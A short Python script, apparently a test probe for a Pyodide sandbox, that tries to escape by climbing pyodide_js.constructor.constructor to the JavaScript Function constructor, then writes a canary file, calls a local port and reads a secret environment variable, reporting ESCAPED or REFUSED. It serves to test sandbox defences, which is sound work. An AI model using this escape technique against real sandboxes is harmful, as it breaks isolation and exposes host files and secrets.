# Tries: import pyodide_js (Pyodide's own API object) and climb .constructor.constructor to Function.
import asyncio
import json

CANARY = "__LOOPLAB_CANARY__"
SECRET_NAME = "__LOOPLAB_SECRET_NAME__"
PORT = int("__LOOPLAB_PORT__")

BODY = f"""
  const fs = globalThis.process?.getBuiltinModule?.('fs');
  fs?.writeFileSync({json.dumps(CANARY)}, 'written through pyodide_js');
  globalThis.fetch?.('http://127.0.0.1:{PORT}/pyodide-js').catch(() => {{}});
  return String(globalThis.process?.env?.[{json.dumps(SECRET_NAME)}]);
"""


async def main():
    try:
        import pyodide_js

        secret = pyodide_js.constructor.constructor(BODY)()
    except Exception as exc:
        print("REFUSED:", type(exc).__name__, exc)
    else:
        print("ESCAPED: pyodide_js reached Function, the secret is", secret)


asyncio.run(main())
